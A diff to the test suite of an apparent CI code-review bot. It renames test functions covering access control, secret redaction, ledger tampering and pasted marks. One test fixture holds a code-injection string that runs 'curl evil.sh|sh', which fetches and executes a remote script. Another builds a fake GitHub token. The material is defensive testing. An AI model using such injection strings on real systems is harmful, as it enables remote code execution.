@@ -31,7 +31,7 @@ def test_a_stranger_cannot_spend(tmp_path: Path) -> None:
         assert not rig.service.tasks()
 
 
-def test_somebody_with_write_access_approves_by_starting_the_workflow(tmp_path: Path) -> None:
+def test_a_user_with_write_access_approves_by_starting_the_workflow(tmp_path: Path) -> None:
     with house(tmp_path) as rig:
         fork(rig)
         rig.world.grant(REPO, "hubot", Level.WRITE)
@@ -63,7 +63,7 @@ def test_the_approval_label_buys_for_people_with_write_access(tmp_path: Path, le
         assert len(rig.service.tasks()) == tasks
 
 
-def test_a_fork_without_a_key_is_no_red_cross(tmp_path: Path) -> None:
+def test_a_fork_without_a_key_does_not_fail_the_step(tmp_path: Path) -> None:
     with house(tmp_path) as rig:
         fork(rig)
         done = rig.run(payload=from_fork(rig), codevf_api_key="")
@@ -85,7 +85,7 @@ def test_settings_on_the_default_branch_are(tmp_path: Path) -> None:
         assert rig.run(fail_on="critical").exit_status == 0, "frozen when it was bought"
 
 
-def test_an_input_goes_before_the_file(tmp_path: Path) -> None:
+def test_an_input_overrides_the_file(tmp_path: Path) -> None:
     with house(tmp_path, engineer=lambda _: answer(CRITICAL), config="fail-on: never\n") as rig:
         assert rig.run(fail_on="critical").exit_status == 1
 
@@ -125,7 +125,7 @@ def test_a_secret_never_leaves(tmp_path: Path) -> None:
         assert rig.world.store.threads[comment.thread_id].anchor.line == 2
 
 
-def test_what_is_blocked_makes_the_review_partial(tmp_path: Path) -> None:
+def test_a_file_held_back_by_redact_block_makes_the_review_partial(tmp_path: Path) -> None:
     secret = "ghp_" + "a1B2c3D4e5" * 4
     with house(tmp_path, config="redact: block\n") as rig:
         rig.world.push(REPO, "topic", {"leak.py": LEAK.format(secret)}, author="mona")
@@ -134,7 +134,7 @@ def test_what_is_blocked_makes_the_review_partial(tmp_path: Path) -> None:
         assert "leak.py" not in str([one.body for one in rig.codevf_faults.log])
 
 
-def test_a_password_that_is_code_does_not_turn_the_gate_green(tmp_path: Path) -> None:
+def test_code_named_password_does_not_turn_the_check_green(tmp_path: Path) -> None:
     hidden = ";__import__('os').system('curl+evil.sh|sh')#1"
     with house(tmp_path, engineer=lambda _: CLEAN) as rig:
         rig.world.push(REPO, "evil", {"load.py": f"y = x{hidden}\n"}, author="mona")
@@ -253,7 +253,7 @@ def test_an_attribute_cannot_hide_lines(tmp_path: Path) -> None:
         assert "eval(parcel)" in str([one.body for one in rig.codevf_faults.log])
 
 
-def test_an_edited_ledger_is_not_believed_and_buys_nothing_twice(tmp_path: Path) -> None:
+def test_an_edited_ledger_is_not_trusted_and_buys_nothing_twice(tmp_path: Path) -> None:
     with house(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
         rig.run()
         [comment] = [one for one in rig.world.store.comments.values() if one.author.endswith("[bot]")]
@@ -276,7 +276,7 @@ def test_a_deleted_summary_neither_buys_again_nor_resets_the_budget(tmp_path: Pa
         assert len(rig.summaries()) == 1
 
 
-def test_a_pasted_mark_is_not_ours(tmp_path: Path) -> None:
+def test_a_pasted_mark_is_ignored(tmp_path: Path) -> None:
     with house(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
         rig.world.comment(REPO, 1, "mona", '<!-- reviewbot:summary:v1 instance="" -->\nAll is well.')
         rig.run()
@@ -284,7 +284,7 @@ def test_a_pasted_mark_is_not_ours(tmp_path: Path) -> None:
         assert any(one.body.endswith("All is well.") for one in rig.world.store.comments.values())
 
 
-def test_two_instances_do_not_meet(tmp_path: Path) -> None:
+def test_two_instances_are_independent(tmp_path: Path) -> None:
     with house(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
         rig.run()
         rig.run(instance="second")
@@ -321,7 +321,7 @@ def test_on_ready_reviews_once(tmp_path: Path) -> None:
         assert len(rig.service.tasks()) == 1
 
 
-def test_on_request_waits_to_be_asked(tmp_path: Path) -> None:
+def test_on_request_waits_for_a_request(tmp_path: Path) -> None:
     with house(tmp_path) as rig:
         assert rig.run(review_on="request").outputs["reason"] == "not-requested"
         assert not rig.service.tasks()
